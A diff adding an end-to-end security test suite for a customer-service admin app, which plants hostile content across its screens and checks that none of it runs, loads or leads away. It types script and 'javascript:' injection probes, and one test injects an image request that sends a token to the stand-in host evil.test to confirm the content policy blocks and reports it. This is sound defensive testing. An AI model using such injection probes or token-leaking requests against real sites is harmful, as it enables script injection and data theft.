@@ -1,0 +1,180 @@
+import type { Locator, Page } from 'playwright-core'
+import { expect, test } from 'vitest'
+import { openBrowser, shoot } from './browser.ts'
+import { connectNumber } from './connection.ts'
+import { act, conversation, openTab, row } from './desk.ts'
+import { dangersIn, hostile, missing, readAll, rollBy, setTraps } from './hostile.ts'
+import { keptName, plantMessages, plantRecords, stranger, subject } from './hostile-planting.ts'
+import { people, setStage } from './stage.ts'
+import { until } from './until.ts'
+
+const report = 'the content policy was violated'
+
+const stage = setStage(async (product) => {
+  await connectNumber(product)
+  await plantMessages(product)
+  await plantRecords(product)
+})
+
+/** Somebody's browser with traps in it, which must be unsprung at the end. */
+async function enterTrapped(email: string): Promise<{ page: Page; sprung: string[] }> {
+  const page = await stage.enter(email)
+  const sprung = await setTraps(page.context(), stage.product.url)
+  await page.reload()
+  return { page, sprung }
+}
+
+/** Reads a screen, rolling what is longer than it, until all of these strings were seen on it as text. */
+async function see(page: Page, planted: readonly string[], { roll, by = 600, letters }: { roll?: Locator; by?: number; letters?: number } = {}): Promise<void> {
+  let read = ''
+  const unseen = async () => {
+    read += await readAll(page)
+    if (missing(planted, read, letters).length === 0) return []
+    if (roll) await rollBy(roll, by)
+    return missing(planted, read, letters)
+  }
+  await expect.poll(unseen, { timeout: 60_000, interval: 10 }).toEqual([])
+  expect(await dangersIn(page)).toEqual([])
+}
+
+const odd = (texts: readonly string[]) => texts.filter((_text, at) => at % 2 === 0)
+const even = (texts: readonly string[]) => texts.filter((_text, at) => at % 2 === 1)
+
+/** The lists, the bell and the command bar. */
+async function walkLists(page: Page): Promise<void> {
+  const list = page.getByRole('list', { name: 'Atendimentos' })
+  const fields = ['contact', 'last', 'queue', 'connection', 'tag']
+  await page.getByRole('switch', { name: 'Ver todos' }).setChecked(true)
+  await see(page, fields.map(hostile).flatMap(even), { roll: list })
+  await openTab(page, /Aguardando/)
+  await see(page, [...fields.map(hostile).flatMap(odd), stranger.name, subject], { roll: list })
+  await shoot(page, 'hostile-list')
+  await page.getByRole('button', { name: /^Avisos de atendimentos/ }).click()
+  await see(page, odd(hostile('contact')), { roll: page.getByRole('dialog', { name: 'Avisos de atendimentos' }) })
+  await shoot(page, 'hostile-bell')
+  await page.keyboard.press('Escape')
+  await page.keyboard.press('Control+k')
+  const words = page.getByRole('combobox', { name: 'Buscar ou ir para…' })
+  for (const typed of ['contact0', 'contact1', '<script>', 'javascript:']) {
+    await words.fill(typed)
+    await page.getByRole('option', { name: typed }).first().waitFor()
+    expect(await dangersIn(page)).toEqual([])
+  }
+  await shoot(page, 'hostile-command-bar')
+  await page.keyboard.press('Escape')
+}
+
+/** The conversation with the stranger, accepted: its panel, its pictures, and what one answers with. */
+async function walkConversation(page: Page): Promise<void> {
+  const thread = page.getByRole('log')
+  const kinds = [...['text', 'place', 'card', 'caption'].flatMap(hostile), ...hostile('file').map(keptName)]
+  await page.goto(`${stage.product.url}/tickets/${await strangersTicket()}`)
+  await conversation(page, stranger).getByRole('button', { name: 'Aceitar' }).click()
+  await see(page, kinds, { roll: thread, by: -800 })
+  await shoot(page, 'hostile-conversation')
+  // The latest forty tickets, this one among them.
+  const past = hostile('past').slice(1)
+  await see(page, [...['note', 'user', 'fact', 'value'].flatMap(hostile), ...past], { roll: page.getByRole('complementary', { name: 'Contato' }) })
+  await shoot(page, 'hostile-panel')
+  const pictures = page.getByRole('button', { name: /^Abrir imagem/ })
+  await page.getByRole('button', { name: 'Ir para a mensagem mais recente' }).click()
+  await expect.poll(async () => (await pictures.count()) || rollBy(thread, -800)).toBeGreaterThan(0)
+  await pictures.first().click()
+  const picture = page.getByRole('dialog').getByRole('img').first()
+  await picture.waitFor()
+  expect(await dangersIn(page)).toEqual([])
+  await shoot(page, 'hostile-lightbox')
+  await page.keyboard.press('Escape')
+  await page.getByRole('textbox', { name: 'Mensagem' }).fill('/')
+  await see(page, [...hostile('short')], { roll: page.getByRole('listbox', { name: 'Respostas rápidas' }) })
+  await shoot(page, 'hostile-slash')
+  await page.getByRole('combobox', { name: 'Mensagem' }).fill('')
+}
+
+async function strangersTicket(): Promise<string> {
+  const [ticket] = await stage.product.query<{ uuid: string }>(
+    `select t.uuid from tickets t join contacts c on c.id = t.contact_id where c.name = $1 and t.status <> 'closed'`,
+    [stranger.name],
+  )
+  return ticket?.uuid ?? ''
+}
+
+/** What everybody has scheduled for the stranger; attendants see their own alone. */
+async function walkSchedules(page: Page): Promise<void> {
+  await act(page, stranger, 'Agendar mensagem')
+  await page.getByRole('dialog').getByRole('button', { name: 'Ver mais' }).click()
+  await see(page, [...hostile('schedule'), ...hostile('user')], { roll: page.getByRole('dialog') })
+  await shoot(page, 'hostile-schedules')
+  await page.keyboard.press('Escape')
+}
+
+async function walkTransfer(page: Page): Promise<void> {
+  await act(page, stranger, 'Transferir')
+  const transfer = page.getByRole('dialog')
+  await transfer.getByRole('combobox', { name: 'Fila' }).click()
+  await see(page, hostile('queue'), { roll: page.getByRole('listbox') })
+  await page.keyboard.press('Escape')
+  await transfer.getByRole('combobox', { name: 'Atendente' }).fill('user')
+  await page.getByRole('option').first().waitFor()
+  expect(await dangersIn(page)).toEqual([])
+  await shoot(page, 'hostile-transfer')
+  await page.keyboard.press('Escape')
+  await page.keyboard.press('Escape')
+}
+
+async function walkScreens(page: Page): Promise<void> {
+  const url = (path: string) => `${stage.product.url}${path}`
+  await page.goto(url('/quick-messages'))
+  await see(page, [...hostile('short'), ...hostile('quick')], { roll: page.getByRole('main') })
+  await shoot(page, 'hostile-quick-messages')
+  await page.goto(url('/todolist'))
+  for (const text of hostile('todo')) {
+    await page.getByLabel('O que falta fazer?').fill(text.slice(0, 400))
+    await page.keyboard.press('Enter')
+  }
+  await page.reload()
+  await see(page, hostile('todo').map((text) => text.slice(0, 400)))
+  await shoot(page, 'hostile-todo')
+}
+
+test('nothing that customers or colleagues write runs, loads or leads away, on any screen of the admin', { timeout: 240_000 }, async () => {
+  const { page, sprung } = await enterTrapped(people.marina)
+  await walkLists(page)
+  await row(page, stranger).getByRole('button', { name: /^Espiar/ }).click()
+  await see(page, hostile('file').map(keptName), { roll: page.getByRole('log'), by: -800 })
+  await page.keyboard.press('Escape')
+  await walkConversation(page)
+  await walkSchedules(page)
+  await walkTransfer(page)
+  await walkScreens(page)
+  await page.goto(`${stage.product.url}/connections`)
+  await see(page, hostile('connection'), { roll: page.getByRole('main') })
+  await shoot(page, 'hostile-connections')
+  expect(sprung).toEqual([])
+  expect(stage.product.output.filter((line) => line.includes(report))).toEqual([])
+})
+
+test('nor on those of an attendant, to whose own name it happens as well', { timeout: 240_000 }, async () => {
+  const [name = ''] = hostile('own')
+  await stage.product.query('update users set name = $1 where email = $2', [name, people.caio])
+  await stage.product.query(`update tickets set status = 'pending', user_id = null where contact_id = (select id from contacts where name = $1) and status = 'open'`, [stranger.name])
+  const { page, sprung } = await enterTrapped(people.caio)
+  await see(page, [name])
+  await openTab(page, /Aguardando/)
+  await see(page, ['contact', 'last', 'queue', 'connection', 'tag'].map(hostile).flatMap(odd), { roll: page.getByRole('list', { name: 'Atendimentos' }) })
+  await walkConversation(page)
+  await walkTransfer(page)
+  await walkScreens(page)
+  expect(sprung).toEqual([])
+  expect(stage.product.output.filter((line) => line.includes(report))).toEqual([])
+})
+
+test('had anything been kept from loading, the server would have heard of it', { timeout: 60_000 }, async () => {
+  const { context } = await openBrowser(stage.browser)
+  const page = await context.newPage()
+  await page.goto(`${stage.product.url}/login`)
+  await page.evaluate(() => document.body.append(Object.assign(new Image(), { src: 'https://evil.test/secret?token=1' })))
+  const line = await until('the report is logged', () => stage.product.output.find((printed) => printed.includes(report)))
+  expect(JSON.parse(line)).toMatchObject({ directive: 'img-src', blocked: 'https://evil.test', page: '/login' })
+  await context.close()
+})
